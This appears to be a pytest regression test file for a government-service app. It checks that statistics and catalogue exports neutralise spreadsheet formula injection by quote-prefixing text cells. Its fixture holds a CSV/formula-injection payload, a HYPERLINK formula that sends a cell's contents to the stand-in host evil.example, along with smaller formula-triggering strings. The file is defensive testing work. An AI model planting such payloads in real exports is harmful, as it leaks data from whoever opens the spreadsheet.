"""Issue 12, finding 7: catalogue text beginning with =, +, -, @, tab or CR reached the statistics XLSX as formulas
and the CSVs raw, where a spreadsheet evaluates it. Such text is a string cell (with the quote prefix) in XLSX and
is prefixed with an apostrophe in CSV; numbers stay numbers; the catalogue's own CSV imports back unchanged."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from tests.integration.pages import client, log_in  # noqa: F401  (the page client fixture)

FORWARD_ONLY = "GZ-TZSB-002"
HOSTILE_ITEM = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
HOSTILE_MATERIALS = {"M01": "+1+1", "M02": "@SUM(A1)", "M03": "-2+3", "M04": "\tcmd"}
ENTERPRISE = {"kind": "enterprise", "name": "赣州市示范贸易有限公司", "id_code": "91350100M000100Y43"}


def _rename(client):  # noqa: F811
    from app.extensions import db
    from delegation.models import Item

    with client.application.app_context():
        item = db.session.execute(sa.select(Item).filter_by(code=FORWARD_ONLY)).unique().scalar_one()
        item.name = HOSTILE_ITEM
        for m in item.materials:
            m.name = HOSTILE_MATERIALS.get(m.code, m.name)
        db.session.commit()
        db.session.remove()


def _token(client, username):  # noqa: F811
    r = client.post("/api/v1/auth/token", json={"username": username, "password": "demo"})
    assert r.status_code == 200, r.get_json()
    return {"Authorization": f"Bearer {r.get_json()['token']}"}


def _case_of_hostile_item(client):  # noqa: F811
    _rename(client)
    materials = [{"code": f"M0{i}", "present": True} for i in range(1, 7)]
    r = client.post("/api/v1/cases", json={"item_code": FORWARD_ONLY, "applicant": ENTERPRISE, "materials": materials},
                    headers=_token(client, "window-360730"))
    assert r.status_code == 201, r.get_json()


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_statistics_xlsx_holds_catalogue_text_as_text(client):  # noqa: F811
    from openpyxl import load_workbook

    _case_of_hostile_item(client)
    r = client.get("/api/v1/stats/export.xlsx", headers=_token(client, "admin"))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.data))["按事项"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE_ITEM]
    assert cells, "the item's row is missing"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    numbers = [c for c in sheet[2] if isinstance(c.value, (int, float))]
    assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.parametrize("path", ["/api/v1/stats/export.csv?by=item", "/dashboard/export.csv?by=item"])
def test_the_statistics_csv_prefixes_formula_text(client, path):  # noqa: F811
    _case_of_hostile_item(client)
    if path.startswith("/api/"):
        r = client.get(path, headers=_token(client, "admin"))
    else:
        log_in(client, "admin")
        r = client.get(path)
    assert r.status_code == 200
    cells = [c for row in _csv(r.data) for c in row]
    assert "'" + HOSTILE_ITEM in cells and HOSTILE_ITEM not in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_catalogue_export_writes_text_cells_and_imports_back_unchanged(client, tmp_path):  # noqa: F811
    from openpyxl import load_workbook

    from app.extensions import db
    from delegation.catalog_io import export_catalog, read_catalog

    _rename(client)
    log_in(client, "admin")
    r = client.get("/admin/catalog/export.csv")
    assert r.status_code == 200
    rows = _csv(r.data)
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE_ITEM in cells and HOSTILE_ITEM not in cells
    for name in HOSTILE_MATERIALS.values():
        assert "'" + name in cells and name not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)

    exported = tmp_path / "catalog.csv"
    exported.write_bytes(r.data)
    spec = next(s for s in read_catalog(exported) if s.code == FORWARD_ONLY)
    assert spec.name == HOSTILE_ITEM
    assert {m.code: m.name for m in spec.materials if m.code in HOSTILE_MATERIALS} == HOSTILE_MATERIALS

    with client.application.app_context():
        export_catalog(db.session, tmp_path / "catalog.xlsx")
        db.session.remove()
    ws = load_workbook(tmp_path / "catalog.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row if c.value == HOSTILE_ITEM]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    numbers = [c for c in ws[2] if isinstance(c.value, int) and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_negative_numbers_stay_numbers():
    from openpyxl import Workbook

    from delegation.spreadsheet import append_row, csv_cell

    ws = Workbook().active
    append_row(ws, [-5, -0.25, "-5", "名称"])
    assert [c.data_type for c in ws[1]] == ["n", "n", "s", "s"]
    assert [c.quotePrefix for c in ws[1]] == [False, False, True, False]
    assert [csv_cell(v) for v in (-5, -0.25, "-5", "名称")] == [-5, -0.25, "'-5", "名称"]
